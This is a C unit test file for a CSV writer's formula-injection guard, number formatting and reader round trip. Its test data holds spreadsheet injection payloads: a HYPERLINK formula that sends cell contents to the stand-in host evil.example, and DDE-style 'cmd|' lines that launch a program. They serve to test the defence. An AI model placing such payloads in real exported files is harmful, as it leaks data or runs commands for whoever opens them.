/* csv: the writer's quoting and formula guard, numbers, and what the reader
 * gives back for what the writer wrote (table-driven). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "csv.h"
#include "util.h"

/* Texts from outside, as a hostile push or a careless marketer sends them. */
static const char *const hostile[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\n=2+2",
    " =1+1",
    "'=1+1",
    "''@x",
    "' -x",
    "-3",
    "+86 138 0000 0000",
    "=\"\"",
    "'",
    "''",
    "'plain",
    "a=b",
    "a;=1+1",
    "a\t=1+1",
    "门店 42",
    "=门店",
    "",
};

static void test_field(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"plain", "plain"},
        {"", ""},
        {"42", "42"},
        {"门店 42", "门店 42"},
        {"a=b", "a=b"},
        {"'plain", "'plain"},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"multi\nline", "\"multi\nline\""},
        {"cr\r\nlf", "\"cr\r\nlf\""},
        {"a;=1+1", "\"a;=1+1\""},
        {"a\t=1+1", "\"a\t=1+1\""},
        /* every character that starts a formula (OWASP), then ours */
        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(1+1)", "\"'@SUM(1+1)\""},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"\n=1", "\"'\n=1\""},
        {"=", "\"'=\""},
        /* a text that looks like a number is still text from outside */
        {"-3", "\"'-3\""},
        {"+86", "\"'+86\""},
        /* spaces a spreadsheet may trim, and quotes already in front */
        {" =1", "\"' =1\""},
        {"'=1", "\"''=1\""},
        {"''=1", "\"'''=1\""},
        {"'", "'"},
        {" ", " "},
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        struct buf b = {0};
        assert_int_equal(csv_field(&b, cases[i].in), 0);
        assert_string_equal(b.data ? b.data : "", cases[i].out);
        buf_free(&b);
    }
}

static void test_number(void **state)
{
    (void)state;
    static const struct {
        int64_t v;
        const char *out;
    } cases[] = {
        {0, "0"},
        {42, "42"},
        {-3, "-3"},
        {INT64_MAX, "9223372036854775807"},
        {INT64_MIN, "-9223372036854775808"},
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        struct buf b = {0};
        assert_int_equal(csv_number(&b, cases[i].v), 0);
        assert_string_equal(b.data, cases[i].out);
        buf_free(&b);
    }
}

/* No cell the writer makes starts a formula, whatever the text: the first
 * byte of a field (after its opening quote) is never = + - @ tab CR. */
static void test_no_cell_starts_a_formula(void **state)
{
    (void)state;
    for (size_t i = 0; i < WXS_ARRAY_LEN(hostile); i++) {
        struct buf b = {0};
        assert_int_equal(csv_field(&b, hostile[i]), 0);
        const char *cell = b.data ? b.data : "";
        cell += cell[0] == '"';
        cell += strspn(cell, " ");
        assert_null(memchr("=+-@\t\r", cell[0], 6));
        buf_free(&b);
    }
}

/* A line of fields as the writer writes it, read back by the reader. */
static void read_line(const char *text, char ***fl, size_t *n, struct csv_reader **r, FILE **f)
{
    char err[128];
    size_t line;
    *f = fmemopen((void *)text, strlen(text), "r");
    assert_non_null(*f);
    assert_int_equal(csv_open(r, *f), 0);
    assert_int_equal(csv_next(*r, fl, n, &line, err, sizeof(err)), 1);
}

/* channel list -> channel import: each text comes back as it was. */
static void test_round_trip(void **state)
{
    (void)state;
    for (size_t i = 0; i < WXS_ARRAY_LEN(hostile); i++) {
        struct buf b = {0}, want = {0};
        struct csv_reader *r;
        FILE *f;
        char **fl;
        size_t n;
        assert_int_equal(csv_field(&b, hostile[i]), 0);
        assert_int_equal(buf_puts(&b, ","), 0);
        assert_int_equal(csv_number(&b, -3), 0);
        assert_int_equal(buf_puts(&b, "\r\n"), 0);
        assert_int_equal(buf_puts(&want, hostile[i]), 0);
        read_line(b.data, &fl, &n, &r, &f);
        assert_int_equal(n, 2);
        assert_string_equal(fl[0], want.data ? want.data : "");
        assert_string_equal(fl[1], "-3");
        csv_close(r);
        fclose(f);
        buf_free(&b);
        buf_free(&want);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_field),
        cmocka_unit_test(test_number),
        cmocka_unit_test(test_no_cell_starts_a_formula),
        cmocka_unit_test(test_round_trip),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
